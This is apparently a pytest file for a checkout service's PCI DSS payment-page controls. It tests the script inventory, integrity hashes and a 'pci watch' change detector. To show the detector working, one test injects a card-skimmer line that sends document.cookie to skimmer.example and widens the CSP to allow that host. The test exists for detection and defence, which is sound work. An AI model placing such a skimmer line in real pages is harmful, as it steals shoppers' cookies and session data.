"""PCI DSS v4.0.1's payment-page duties (checkout/pci.py): the script inventory an auditor
reads (6.4.3), integrity on every script a page loads, and ``pci watch`` detecting a
changed script or security header as the browser receives them (11.6.1)."""
from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import LiveServer
from flask import Flask, Response

from checkout import STATIC, pci

REPO = Path(__file__).resolve().parent.parent
FLASK = Path(sys.executable).with_name("flask")


def sha384(body: bytes) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(body).digest()).decode()


def test_the_inventory_lists_every_script_with_its_hash_and_reason(app, client):
    result = app.test_cli_runner().invoke(args=["pci", "inventory", "--format", "json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    loaded = {s for scripts in data["pages"].values() for s in scripts}
    on_disk = {str(p.relative_to(STATIC)) for p in (STATIC / "js").glob("*.js")}
    assert loaded | {"js/widget.js"} == on_disk  # every static script is accounted for, and no other
    for name, script in data["scripts"].items():
        served = client.get(script["url"], headers={"Accept-Encoding": "identity"})
        assert served.status_code == 200, script["url"]
        assert script["integrity"] == sha384(served.data), name  # the bytes a browser gets at that URL
        assert script["reason"], name
    assert data["scripts"]["js/forms.js"]["url"].startswith("/assets/js/forms.")  # content-hashed
    assert data["stylesheets"] == {"css/checkout.css": data["stylesheets"]["css/checkout.css"]}  # inlined
    assert "js/forms.js" in data["pages"]["pay.html"] and "js/card-input.js" in data["pages"]["pay.html"]
    assert data["inlineScripts"] == []  # payment pages run no inline script
    text = app.test_cli_runner().invoke(args=["pci", "inventory"])
    assert text.exit_code == 0 and data["scripts"]["js/card-input.js"]["url"] in text.output and "why" in text.output


def test_a_script_without_a_reason_fails_the_inventory(app, monkeypatch):
    monkeypatch.delitem(pci.REASONS, "js/countdown.js")
    result = app.test_cli_runner().invoke(args=["pci", "inventory"])
    assert result.exit_code == 1 and "js/countdown.js" in result.output


def test_every_script_a_page_loads_carries_its_integrity(client, make_link):
    html = client.get(make_link()).get_data(as_text=True)
    tags = re.findall(r'<script[^>]*src="[^"]+"[^>]*>', html)
    assert len(tags) >= 3
    assert "<link" not in html or 'rel="stylesheet"' not in html  # the stylesheet is inlined
    for tag in tags:
        src = re.search(r'src="(/assets/[^"?]+)"', tag)[1]
        served = client.get(src)  # decoded as a browser decodes brotli or gzip
        assert served.status_code == 200
        assert f'integrity="{sha384(served.data)}"' in tag, tag


def test_widget_js_can_be_pinned_by_the_merchant_s_page(client):
    answer = client.get("/widget.js")
    assert answer.headers["Access-Control-Allow-Origin"] == "*"  # SRI on another origin's script needs CORS
    assert sha384(answer.data) == pci.inventory()["scripts"]["js/widget.js"]["integrity"]


# -- pci watch, in Chromium ----------------------------------------------------------------
def watch(url: str, *args: str, tmp_path: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "CHECKOUT_DATABASE": str(tmp_path / "cli.sqlite3"),
           "CHECKOUT_SANDBOX_DATABASE": str(tmp_path / "cli-sandbox.sqlite3")}
    return subprocess.run([str(FLASK), "--app", "checkout", "pci", "watch", url, *args], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=120)


class ChangingPage:
    """A page on 127.0.0.1 whose script and headers a test changes, as an attacker who got
    into a server (or a CDN) would."""

    def __init__(self):
        self.script = b"document.title = 'ok';"
        self.csp = "default-src 'none'; script-src 'nonce-abc'"
        site = Flask("watched")

        @site.get("/pay")
        def pay():
            body = '<!doctype html><title>x</title><script src="/static/a.js" nonce="abc"></script>'
            return Response(body, headers={"Content-Security-Policy": self.csp, "X-Frame-Options": "DENY"})

        @site.get("/static/a.js")
        def script():
            return Response(self.script, mimetype="application/javascript")

        self.server = LiveServer(site)
        self.url = self.server.url + "/pay"


@pytest.fixture
def changing():
    page = ChangingPage()
    yield page
    page.server.stop()


@pytest.mark.browser
def test_watch_reports_a_changed_script_and_header(changing, tmp_path):
    baseline = tmp_path / "baseline.json"
    first = watch(changing.url, "--baseline", str(baseline), tmp_path=tmp_path)
    assert first.returncode == 0, first.stdout + first.stderr
    record = json.loads(baseline.read_text())
    assert record["scripts"] == {"/static/a.js": sha384(changing.script)}
    same = watch(changing.url, "--baseline", str(baseline), tmp_path=tmp_path)
    assert same.returncode == 0 and "no change" in same.stdout, same.stdout + same.stderr

    changing.script = b"document.title = 'ok'; fetch('https://skimmer.example/?c=' + document.cookie);"
    changing.csp = "default-src 'none'; script-src 'nonce-abc' https://skimmer.example"
    changed = watch(changing.url, "--baseline", str(baseline), tmp_path=tmp_path)
    assert changed.returncode == 1, changed.stdout + changed.stderr
    assert "scripts: /static/a.js changed" in changed.stdout
    assert "headers: content-security-policy changed" in changed.stdout and "skimmer.example" in changed.stdout


@pytest.mark.browser
def test_watch_finds_our_payment_page_unchanged_between_loads(site, tmp_path):
    """Nonces change on every response and are blanked; the scripts are the same files."""
    url = site.link()
    baseline = tmp_path / "pay.json"
    assert watch(url, "--baseline", str(baseline), "--write", tmp_path=tmp_path).returncode == 0
    record = json.loads(baseline.read_text())
    forms = next(path for path in record["scripts"] if path.startswith("/assets/js/forms."))
    assert any(path.startswith("/assets/js/card-input.") for path in record["scripts"])
    assert record["integrity"][forms] == record["scripts"][forms]
    assert "'nonce-*'" in record["headers"]["content-security-policy"]
    again = watch(url, "--baseline", str(baseline), tmp_path=tmp_path)
    assert again.returncode == 0, again.stdout + again.stderr
